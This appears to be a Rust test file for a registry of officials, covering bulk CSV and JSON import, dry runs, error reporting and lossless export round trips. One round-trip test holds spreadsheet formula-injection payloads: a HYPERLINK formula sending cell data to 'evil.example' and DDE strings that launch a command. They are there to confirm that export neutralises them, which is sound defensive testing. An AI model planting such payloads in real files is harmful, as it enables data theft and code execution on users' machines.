//! Bulk import (CSV and JSON) and export.

use reqwest::Method;
use serde_json::{Value, json};

use super::{BACKENDS, TestAdmin, error_code, official};

const HEADER: &str = "id,name,aliases,designation,designation_aliases,organization,phones,status,notes,valid_from,valid_until";

/// `rows` officials with numbers +91 70001 xxxxx, no ids.
fn big_csv(rows: u32) -> String {
    let mut s = String::from("name,designation,organization,phones\n");
    for n in 0..rows {
        s.push_str(&format!(
            "Official {n},Clerk,Devgarh MC,+917001{n:06}:official\n"
        ));
    }
    s
}

#[tokio::test]
async fn a_bad_row_in_a_5000_row_import_leaves_the_registry_unchanged() {
    for b in BACKENDS {
        let app = TestAdmin::spawn(b).await;
        app.create_ok(official("Existing", 1)).await;
        let before = app.export().await;
        let audit_before = app.audit("").await.len();

        let mut csv = big_csv(5000);
        csv.push_str("Broken Row,Clerk,Devgarh MC,not-a-number\n");
        let r = app.import(csv, "text/csv", false).await;
        let (code, details) = error_code(r, 422).await;
        assert_eq!(code, "import_rejected");
        assert_eq!(details["rows"][0]["row"], 5001);
        assert_eq!(details["rows"][0]["field"], "phones[0].number");

        assert_eq!(app.export().await, before, "{b:?}: nothing half-written");
        assert_eq!(app.audit("").await.len(), audit_before);
    }
}

#[tokio::test]
async fn ten_thousand_rows_import_in_one_go() {
    for b in BACKENDS {
        let app = TestAdmin::spawn(b).await;
        // Speed is measured by `benches/registry_import.rs`; the time is only printed here.
        let started = std::time::Instant::now();
        let r = app.import(big_csv(10_000), "text/csv", false).await;
        eprintln!(
            "{b:?}: 10,000-row import took {:?} (debug build)",
            started.elapsed()
        );
        assert_eq!(r.status(), 200, "{b:?}");
        let report: Value = r.json().await.unwrap();
        assert_eq!(report["created"].as_array().unwrap().len(), 10_000);
        let snap = app.stores.registry.load_registry().await.unwrap();
        assert_eq!((snap.officials.len(), snap.version), (10_000, 1));
    }
}

#[tokio::test]
async fn a_dry_run_reports_creates_updates_and_unchanged_and_writes_nothing() {
    for b in BACKENDS {
        let app = TestAdmin::spawn(b).await;
        let same = app.create_ok(official("Same", 1)).await;
        let changed = app.create_ok(official("Changed", 2)).await;
        let rows = json!([
            {"id": same["id"], "name": "Same", "designation": "Municipal Commissioner",
             "organization": "Devgarh Municipal Corporation", "phones": ["+917000000001"]},
            {"id": changed["id"], "name": "Changed", "designation": "Collector",
             "organization": "Devgarh Municipal Corporation", "phones": ["+917000000002"]},
            {"name": "New", "phones": ["+917000000003"]}
        ]);
        let version = app.stores.registry.load_registry().await.unwrap().version;
        let r = app.import(rows.to_string(), "application/json", true).await;
        assert_eq!(r.status(), 200);
        let report: Value = r.json().await.unwrap();
        assert_eq!(report["dry_run"], true);
        assert_eq!(report["unchanged"], json!([same["id"]]));
        assert_eq!(report["updated"], json!([changed["id"]]));
        assert_eq!(report["created"].as_array().unwrap().len(), 1);
        assert_eq!(
            app.stores.registry.load_registry().await.unwrap().version,
            version
        );

        let r = app
            .import(rows.to_string(), "application/json", false)
            .await;
        let report: Value = r.json().await.unwrap();
        assert_eq!(report["updated"], json!([changed["id"]]));
        let now: Value = app
            .get(changed["id"].as_str().unwrap())
            .await
            .json()
            .await
            .unwrap();
        assert_eq!(
            (now["designation"].as_str(), now["version"].as_u64()),
            (Some("Collector"), Some(2))
        );
        let actions: Vec<String> = app
            .audit("")
            .await
            .iter()
            .map(|e| e["action"].as_str().unwrap().to_string())
            .collect();
        assert_eq!(
            actions,
            ["create", "create", "import.update", "import.create"]
        );
    }
}

#[tokio::test]
async fn export_then_import_into_an_empty_registry_gives_the_identical_registry() {
    for b in BACKENDS {
        let app = TestAdmin::spawn(b).await;
        let sample = include_bytes!("../../samples/registry.csv");
        let r = app.import(sample.to_vec(), "text/csv", false).await;
        assert_eq!(r.status(), 200);
        app.create_ok(json!({"name": "Quote \"Q\", Comma", "aliases": ["नया, नाम"], "notes": "line one\nline two", "phones": ["7000000099"], "valid_until": "2030-03-31T18:30:00+05:30"})).await;
        // Text a spreadsheet would run goes out behind a `'` and comes back without it.
        app.create_ok(json!({"name": "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")", "aliases": ["'=quoted", "@SUM(1+1)"], "designation": "+cmd|' /C calc'!A0", "organization": "@SUM(1+1)", "notes": "-2+3+cmd|' /C calc'!A0", "phones": ["7000000098"]})).await;
        let first = app.export().await;

        let fresh = TestAdmin::spawn(b).await;
        let r = fresh.import(first.clone(), "text/csv", false).await;
        assert_eq!(r.status(), 200);
        assert_eq!(fresh.export().await, first, "{b:?}");
        let a = app.stores.registry.load_registry().await.unwrap().officials;
        let f = fresh
            .stores
            .registry
            .load_registry()
            .await
            .unwrap()
            .officials;
        let strip = |o: &asli::registry::Official| {
            (
                o.id.clone(),
                o.name.clone(),
                o.aliases.clone(),
                o.designation.clone(),
                o.organization.clone(),
                o.phones.clone(),
                o.status,
                o.notes.clone(),
                o.valid_from,
                o.valid_until,
            )
        };
        assert_eq!(
            a.iter().map(strip).collect::<Vec<_>>(),
            f.iter().map(strip).collect::<Vec<_>>()
        );

        // And back into the registry it came from: nothing to do.
        let report: Value = app
            .import(first, "text/csv", false)
            .await
            .json()
            .await
            .unwrap();
        assert_eq!(report["unchanged"].as_array().unwrap().len(), 10);
        assert!(
            report["created"].as_array().unwrap().is_empty()
                && report["updated"].as_array().unwrap().is_empty()
        );
    }
}

#[tokio::test]
async fn csv_with_bom_crlf_quoted_commas_and_devanagari_is_imported() {
    for b in BACKENDS {
        let app = TestAdmin::spawn(b).await;
        let csv = format!(
            "\u{feff}{HEADER}\r\n,\"Mehta, Arvind\",अरविंद मेहता|ए. मेहता,आयुक्त,निगमायुक्त,\"Devgarh, MP\",+९१ ७००००००००१:official|0091-70000-00002:PA,,\"notes, with comma\",,\r\n"
        );
        let r = app.import(csv, "text/csv; charset=utf-8", false).await;
        assert_eq!(r.status(), 200, "{b:?}");
        let o = &app.stores.registry.load_registry().await.unwrap().officials[0];
        assert_eq!(o.name, "Mehta, Arvind");
        assert_eq!(o.aliases, ["अरविंद मेहता", "ए. मेहता"]);
        assert_eq!(o.organization, "Devgarh, MP");
        assert_eq!(o.phones[1].number.as_str(), "+917000000002");
        assert_eq!(o.phones[1].label, "pa");
    }
}

#[tokio::test]
async fn broken_import_files_get_clear_errors_and_change_nothing() {
    for b in BACKENDS {
        let app = TestAdmin::spawn(b).await;
        let cases: Vec<(String, &str, u16, &str)> = vec![
            (
                "name,phone\nA,7000000001\n".into(),
                "text/csv",
                400,
                "bad_file",
            ),
            ("phones\n7000000001\n".into(), "text/csv", 400, "bad_file"),
            (
                "[{\"name\": \"A\"},".into(),
                "application/json",
                400,
                "bad_file",
            ),
            (
                "{\"name\": \"A\"}".into(),
                "application/json",
                400,
                "bad_file",
            ),
            (
                "<officials/>".into(),
                "application/xml",
                415,
                "unsupported_media_type",
            ),
            (
                "name,phones\nA,7000000001\nB,07000000001\n".into(),
                "text/csv",
                422,
                "import_rejected",
            ),
            (
                "[{\"name\": \"A\"}, {\"name\": 5}]".into(),
                "application/json",
                422,
                "import_rejected",
            ),
            (
                "name,status\nA,retired\n".into(),
                "text/csv",
                422,
                "import_rejected",
            ),
        ];
        for (body, ct, status, want) in cases {
            let r = app.import(body.clone(), ct, false).await;
            assert_eq!(error_code(r, status).await.0, want, "{b:?} {body}");
        }
        assert_eq!(
            app.stores.registry.load_registry().await.unwrap().version,
            0
        );
    }
}

#[tokio::test]
async fn duplicate_numbers_inside_one_import_name_both_rows() {
    for b in BACKENDS {
        let app = TestAdmin::spawn(b).await;
        let csv = "name,phones\nA,7000000001\nB,+91 70000 00002\nC,07000000001\n";
        let (_, details) = error_code(app.import(csv, "text/csv", false).await, 422).await;
        let row = &details["rows"][0];
        assert_eq!(
            (row["row"].as_u64(), row["field"].as_str()),
            (Some(3), Some("phones[0].number"))
        );
        assert!(row["message"].as_str().unwrap().contains("row 1"));
    }
}

#[tokio::test]
async fn an_import_row_cannot_take_a_number_of_an_official_it_does_not_rewrite() {
    for b in BACKENDS {
        let app = TestAdmin::spawn(b).await;
        let owner = app.create_ok(official("Owner", 5)).await;
        let (_, details) = error_code(
            app.import("name,phones\nThief,+917000000005\n", "text/csv", false)
                .await,
            422,
        )
        .await;
        assert!(
            details["rows"][0]["message"]
                .as_str()
                .unwrap()
                .contains(owner["id"].as_str().unwrap())
        );
    }
}

#[tokio::test]
async fn the_export_is_csv_with_the_documented_columns() {
    for b in BACKENDS {
        let app = TestAdmin::spawn(b).await;
        app.create_ok(official("A", 1)).await;
        let r = app
            .req(Method::GET, "/admin/officials/export")
            .send()
            .await
            .unwrap();
        assert!(
            r.headers()["content-type"]
                .to_str()
                .unwrap()
                .starts_with("text/csv")
        );
        let body = r.text().await.unwrap();
        assert!(body.starts_with(&format!("{HEADER}\r\n")));
        assert!(body.contains("+917000000001:official"));
    }
}

#[tokio::test]
async fn an_import_without_a_status_does_not_bring_a_retired_official_back() {
    for b in BACKENDS {
        let app = TestAdmin::spawn(b).await;
        let o = app.create_ok(official("Mahesh Tiwari", 61)).await;
        let id = o["id"].as_str().unwrap();
        app.req(Method::DELETE, &format!("/admin/officials/{id}"))
            .send()
            .await
            .unwrap();
        let csv = format!("id,name,phones\n{id},Mahesh Tiwari,+917000000061\n");
        let r = app.import(csv, "text/csv", false).await;
        assert_eq!(r.status(), 200, "{b:?}");
        assert_eq!(app.lookup("+917000000061").await["status"], "revoked");
        let csv = format!("id,name,phones,status\n{id},Mahesh Tiwari,+917000000061,active\n");
        app.import(csv, "text/csv", false).await;
        assert_eq!(app.lookup("+917000000061").await["status"], "active");
    }
}
